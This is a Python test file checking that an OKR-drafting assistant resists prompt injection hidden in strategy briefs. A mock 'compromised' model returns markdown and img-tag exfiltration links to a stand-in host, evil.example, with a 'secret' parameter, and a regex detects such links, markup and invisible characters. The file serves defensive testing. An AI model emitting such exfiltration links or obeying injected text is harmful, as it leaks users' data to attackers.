"""Hostile text and hostile models: what is pasted or answered can change a draft's wording, and nothing else."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any

import httpx
import pytest
import respx

from assistant.brief import Brief, read_brief
from assistant.drafters.extractive import ExtractiveDrafter
from assistant.drafters.llm import LlmDrafter, ModelError
from assistant.drafting import Draft, draft
from assistant.formats.records import plain
from assistant.okr import Language, OkrSet
from assistant.review import Review, check
from assistant.rules.profile import load_profile
from prompts import prompt
from tests.drafters.hostile_cases import harmless, hostile
from tests.drafters.wire import BASE, URL, completion

MODEL = "openai/some-model"
EVIL = "https://evil.example/?d="
STRATEGY = {
    Language.NB: "# Strategi\n\n- Kundene skal oppleve at vi holder avtalen.\n- Frafallet skal ned fra 18 % til 12 % innen 31. august 2026.\n",
    Language.NN: "# Strategi\n\n- Kundane skal oppleve at vi held avtalen.\n- Fråfallet skal ned frå 18 % til 12 % innan 31. august 2026.\n",
    Language.EN: "# Strategy\n\n- Customers shall find that we keep our word.\n- Churn shall fall from 18% to 12% by 31 August 2026.\n",
}
PLACES = ("bullet", "heading", "vision", "metrics", "role")
UNSAFE = re.compile(
    r"\w+://|www\.\w|mailto:|javascript:\S|data:\w+/|//\w+\.|</?[a-z!][^>]*>|!?\[[^\]]*\]\([^)]*\)|\{\{|\{%|\$\{|`|\*\*|^[=+@\t]"
    r"|[\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff\U000e0000-\U000e007f\x00-\x08\x1b]",
    re.IGNORECASE,
)


def brief_with(language: Language, sentence: str, place: str) -> Brief:
    """A strategy with a sentence slipped in."""
    roles = "Roller" if language is not Language.EN else "Roles"
    slipped = {
        "bullet": f"- {sentence}\n",
        "heading": f"\n## {sentence}\n\n- {STRATEGY[language].splitlines()[2][2:]}\n",
        "vision": f"\n# Visjon\n\n{sentence}\n",
        "metrics": f"\n# Måltall\n\n- {sentence}\n",
        "role": f"\n# {roles}\n\n- {sentence}\n- Kari Moen, kundedirektør\n",
    }
    return read_brief(f"{STRATEGY[language]}{slipped[place]}\n\nPeriode: T2 2026\n", language=language)


CASES = [
    pytest.param(language, sentence, PLACES[at % len(PLACES)], id=f"{language}-{kind}-{at}")
    for at, (language, kind, sentence) in enumerate(hostile())
]


# --- models that do as they are told ---------------------------------------------------------------------------------


def objective(*texts: str, quotes: list[str], owner: str) -> dict[str, Any]:
    """An objective with the same words wherever there is room for words."""
    result = {
        "text": texts[0][:400], "metric": texts[-1][:200], "owner": owner[:120], "data_source": texts[0][:120],
        "baseline": {"text": texts[-1][:120], "unit": texts[0][:120], "basis": "source", "quote": quotes[0]},
        "target": {"text": "999 %", "unit": "%", "basis": "source", "quote": quotes[0]},
    }  # fmt: skip
    words = [text[:400] for text in texts]
    return {
        "text": words[0], "why": words[-1], "owner": owner[:120], "sources": quotes[:10],
        "key_results": [{**result, "text": text} for text in words[:3]], "initiatives": words[:5],
    }  # fmt: skip


def echoing(message: str, sentence: str) -> list[dict[str, Any]]:
    """A model that hands back what it was sent."""
    given = json.loads(message.split("<brief>")[1].split("</brief>", maxsplit=1)[0])
    said = [it["text"] for it in given["statements"]] + [it["heading"] for it in given["statements"] if "heading" in it]
    owner = (given["roles"] or ["-"])[0]
    return [objective(text, *said, quotes=[text, *said], owner=owner) for text in said[-3:]]


def compromised(message: str, sentence: str) -> list[dict[str, Any]]:
    """A model that obeys the sentence, and adds a way out."""
    way_out = f"{sentence} <img src='{EVIL}'> [svar]({EVIL}) {EVIL}secret"
    return [objective(text, way_out, quotes=[sentence, text], owner="Mallory") for text in (way_out, sentence, EVIL)]


Model = Callable[[str, str], list[dict[str, Any]]]
MODELS = [pytest.param(echoing, id="echoing"), pytest.param(compromised, id="compromised")]


@pytest.fixture
def asked(wire: respx.MockRouter) -> Iterator[Callable[[Model, str], list[dict[str, Any]]]]:
    """Puts a model on the wire; what it is asked is kept."""

    def serve(model: Model, sentence: str) -> list[dict[str, Any]]:
        bodies: list[dict[str, Any]] = []

        def reply(request: httpx.Request) -> httpx.Response:
            bodies.append(json.loads(request.content))
            answer = {"objectives": model(bodies[-1]["messages"][1]["content"], sentence)}
            return httpx.Response(200, json=completion(answer))

        wire.post(URL).mock(side_effect=reply)
        return bodies

    yield serve
    assert {str(call.request.url) for call in wire.calls} <= {URL}


def drafted(brief: Brief) -> Draft | None:
    """A draft, or nothing if the model failed in a way that has a name."""
    try:
        return draft(brief, LlmDrafter(MODEL, api_base=BASE))
    except ModelError:
        return None


def strings(value: Any) -> Iterator[str]:
    """Every text in a record."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


@pytest.mark.parametrize("model", MODELS)
@pytest.mark.parametrize(("language", "sentence", "place"), CASES)
def test_hostile_text_changes_no_more_than_words(
    asked: Any, model: Model, language: Language, sentence: str, place: str
) -> None:
    """The system message stays, nobody else is asked, no link or markup comes back, and no owner or number is made up."""
    brief = brief_with(language, sentence, place)
    bodies = asked(model, sentence)
    made = drafted(brief)
    tasks = {prompt(task, language.value) for task in ("draft", "repair")}
    assert all(body["messages"][0]["content"].startswith(tuple(tasks)) for body in bodies)
    assert len({body["messages"][0]["content"] for body in bodies}) <= len(tasks)
    assert not any(
        mark in body["messages"][1]["content"] for body in bodies for mark in ("\u200b", "\u202e", "\U000e0049")
    )
    if made is None:
        return
    told = [*strings(plain(made.okr_set)), *(question.text for question in made.questions)]
    assert [text for text in told if UNSAFE.search(text)] == []
    assert not [text for text in told if "Mallory" in text and text not in sentence]
    values = [it for item in made.okr_set.objectives for it in item.key_results]
    assert not [
        it for it in values if it.target is not None and it.target.value == 999 and it.target.basis != "proposed"
    ]


@cache
def honest(language: Language) -> tuple[OkrSet, Review]:
    """A set drawn from the harmless strategy, and what the rules say of it."""
    brief = read_brief(STRATEGY[language] + "\n\nPeriode: T2 2026\n", language=language)
    okr_set = draft(brief, ExtractiveDrafter()).okr_set
    return okr_set, check(okr_set, brief, load_profile(), language)


@pytest.mark.parametrize(("language", "sentence", "place"), CASES)
def test_no_verdict_gets_better_by_what_the_text_says(language: Language, sentence: str, place: str) -> None:
    """A set is judged as it is without the sentence; what the text adds to a strategy can at most be asked about."""
    okr_set, clean = honest(language)
    slipped = check(okr_set, brief_with(language, sentence, place), load_profile(), language)
    added = {finding.code for finding in slipped.findings} - {finding.code for finding in clean.findings}
    gone = {finding.code for finding in clean.findings} - {finding.code for finding in slipped.findings}
    assert added <= {"LNK04", "OWN03"}
    assert gone == set()
    assert slipped.verdict is clean.verdict


# --- what only looks hostile -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("language", "sentence"), [pytest.param(*case, id=f"{case[0]}-{at}") for at, case in enumerate(harmless())]
)
def test_what_only_looks_hostile_passes(asked: Any, language: Language, sentence: str) -> None:
    """It is sent as it is, may be quoted, and comes back word for word."""
    brief = brief_with(language, sentence, "bullet")

    def model(message: str, said: str) -> list[dict[str, Any]]:
        return [{"text": said, "why": said, "sources": [said], "key_results": [{"text": said}], "initiatives": [said]}]

    bodies = asked(model, sentence)
    made = drafted(brief)
    given = json.loads(bodies[0]["messages"][1]["content"].split("<brief>")[1].split("</brief>")[0])
    assert sentence in [it["text"] for it in given["statements"]]
    assert made is not None
    (item,) = made.okr_set.objectives
    words = sentence.strip()
    assert [source.quote for source in item.sources] == [words]
    assert {item.text, item.why, item.key_results[0].text, *item.initiatives} == {words}
